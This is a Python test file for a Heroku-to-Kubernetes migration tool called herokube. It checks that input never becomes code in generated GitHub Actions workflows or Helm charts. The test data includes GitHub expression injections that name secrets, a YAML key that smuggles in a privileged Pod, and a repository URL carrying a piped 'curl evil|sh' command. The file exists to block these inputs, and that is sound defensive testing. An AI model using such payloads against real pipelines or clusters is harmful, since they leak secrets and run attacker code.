"""Issue 11, "Input that becomes code or objects": a config var name holding YAML stays one key,
and nothing from the input is ever evaluated by GitHub Actions as ``${{ … }}``."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from herokube.validate.helm import check_environment, load_chart
from herokube.yamlio import dump_yaml, load_yaml_text
from herokube_testing import run_herokube

# What herokube's own workflows evaluate (promote.yaml: its dispatch inputs, into env: only);
# nothing else may appear inside ${{ }}.
_OWN_EXPRESSIONS = {
    "github.actor",
    "secrets.GITHUB_TOKEN",
    "inputs.from",
    "inputs.to",
    "github.event.pull_request.head.sha || github.sha",
    "env.TAG",
    "env.IMAGE",
    "secrets.DEPLOYMENT_REPOSITORY_TOKEN || github.token",
    "secrets.DEPLOYMENT_REPOSITORY_TOKEN",
    "steps.existing.outputs.exists == 'false'",
}
_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_MARK = "${{ github.event.issue.title }}"


def _export(**source: Any) -> dict[str, Any]:
    return {
        "schema_version": "heroku-app-export/v1",
        "app": {"name": "plain-app", "team": "acme ${{ secrets.TEAM }}"},
        "formation": [{"type": "web", "command": "node server.js", "quantity": 1}],
        "config_vars": [{"name": "LOG_LEVEL", "value": "debug"}],
        "release": {"version": 1, "commit": "0123456789abcdef0123456789abcdef01234567"},
        "source": source,
    }


def _write(tmp_path: Path, document: dict[str, Any]) -> Path:
    path = tmp_path / "export.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def _workflow_expressions(repo: Path) -> list[str]:
    found = []
    for path in sorted((repo / ".github").rglob("*.y*ml")):
        found += [e.strip() for e in _EXPRESSION.findall(path.read_text(encoding="utf-8"))]
    return found


def _run_scripts(repo: Path) -> list[str]:
    scripts = []
    for path in sorted((repo / ".github").rglob("*.y*ml")):
        workflow = load_yaml_text(path.read_text(encoding="utf-8"), source=str(path))
        for job in workflow["jobs"].values():
            scripts += [step["run"] for step in job.get("steps", []) if "run" in step]
    return scripts


@pytest.mark.parametrize(
    "repository",
    [
        f"https://gitlab.example.com/acme/{_MARK}",
        f"https://evil.example.com/x?{_MARK}",
        f"acme {_MARK}",
    ],
)
def test_a_repository_that_is_not_github_never_reaches_the_workflow(
    tmp_path: Path, repository: str
) -> None:
    out = tmp_path / "repo"
    run = run_herokube("new", _write(tmp_path, _export(repository=repository)), "--out", out)
    assert run.code == 0, run.err
    assert set(_workflow_expressions(out)) <= _OWN_EXPRESSIONS
    assert not any("${{" in script for script in _run_scripts(out))
    workflows = "".join(p.read_text(encoding="utf-8") for p in (out / ".github").rglob("*.yaml"))
    assert repository not in workflows and "${{ secrets.TEAM }}" not in workflows


@pytest.mark.parametrize(
    ("repository", "field"),
    [
        ("https://github.com/acme/${{ secrets.X }}", "source.repository"),
        ("https://github.com/${{github.token}}/x", "source.repository"),
        ("${{x}}/y", "source.repository"),
    ],
)
def test_a_github_repository_is_checked_against_owner_and_name(
    tmp_path: Path, repository: str, field: str
) -> None:
    out = tmp_path / "repo"
    export = _write(tmp_path, _export(repository=repository))
    run = run_herokube("new", export, "--out", out)
    assert run.code == 2
    assert run.err.count("\n") == 1 and f"{export}: {field}: not a GitHub repository" in run.err
    assert not out.exists()


def test_app_json_repository_in_a_source_tree_is_checked(tmp_path: Path) -> None:
    (tmp_path / "app.json").write_text(
        json.dumps({"repository": "https://github.com/acme/x${{ secrets.GITHUB_TOKEN }}"}),
        encoding="utf-8",
    )
    (tmp_path / "Procfile").write_text("web: node server.js\n", encoding="utf-8")
    run = run_herokube("new", tmp_path, "--out", tmp_path / "repo")
    assert run.code == 2
    assert "app.json: repository: not a GitHub repository" in run.err


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--app-repo", "https://github.com/acme/${{ secrets.X }}"),
        ("--app-repo", "https://gitlab.com/acme/app"),
        ("--image", "ghcr.io/acme/${{ secrets.X }}"),
    ],
)
def test_command_line_names_that_reach_the_workflow_are_checked(
    tmp_path: Path, option: str, value: str
) -> None:
    export = _write(tmp_path, _export())
    run = run_herokube("new", export, "--out", tmp_path / "repo", option, value)
    assert run.code == 2
    assert run.err.startswith(f"herokube: {option}") or f"{option}:" in run.err
    assert run.err.count("\n") == 1


def test_a_config_var_name_holding_yaml_stays_one_key(tmp_path: Path) -> None:
    """The chart itself: even a key no loader would let through renders as one ConfigMap key."""
    out = tmp_path / "repo"
    run = run_herokube("new", _write(tmp_path, _export()), "--out", out)
    assert run.code == 0, run.err
    hostile = (
        'X: "1"\n---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: evil\nspec:\n'
        "  containers: [{name: x, image: busybox, securityContext: {privileged: true}}]\n#"
    )
    values_path = out / "environments" / "prod" / "values.yaml"
    values = load_yaml_text(values_path.read_text(encoding="utf-8"), source=str(values_path))
    values["config"] = {"LOG_LEVEL": "debug", hostile: "y", "PLAIN: {a: b}": "z"}
    values_path.write_text(dump_yaml(values), encoding="utf-8")
    result = check_environment(
        load_chart(out / "chart", out),
        "prod",
        values_path,
        "environments/prod/values.yaml",
        kubernetes_version="1.31.0",
        strict=False,
    )
    names = [(m.data.get("metadata") or {}).get("name") for m in result.manifests]
    assert "evil" not in names
    configmaps = [m.data for m in result.manifests if m.data.get("kind") == "ConfigMap"]
    assert len(configmaps) == 1
    assert configmaps[0]["data"] == {"LOG_LEVEL": "debug", hostile: "y", "PLAIN: {a: b}": "z"}


def test_another_hosts_plain_url_is_kept_for_people_and_a_shell_like_one_is_dropped(
    tmp_path: Path,
) -> None:
    kept = tmp_path / "kept"
    run = run_herokube(
        "new",
        _write(tmp_path, _export(repository="https://gitlab.com/acme/app.git")),
        "--out",
        kept,
    )
    assert run.code == 0, run.err
    assert "https://gitlab.com/acme/app.git" in (kept / "README.md").read_text(encoding="utf-8")
    dropped = tmp_path / "dropped"
    (tmp_path / "x").mkdir()
    export = _write(tmp_path / "x", _export(repository="https://gitlab.com/a/b;curl evil|sh"))
    run = run_herokube("new", export, "--out", dropped)
    assert run.code == 0, run.err
    assert "[repository-ignored]" in run.err
    runbook = (dropped / "docs" / "migration.md").read_text(encoding="utf-8")
    assert "curl evil" not in runbook and "curl evil" not in (dropped / "README.md").read_text()
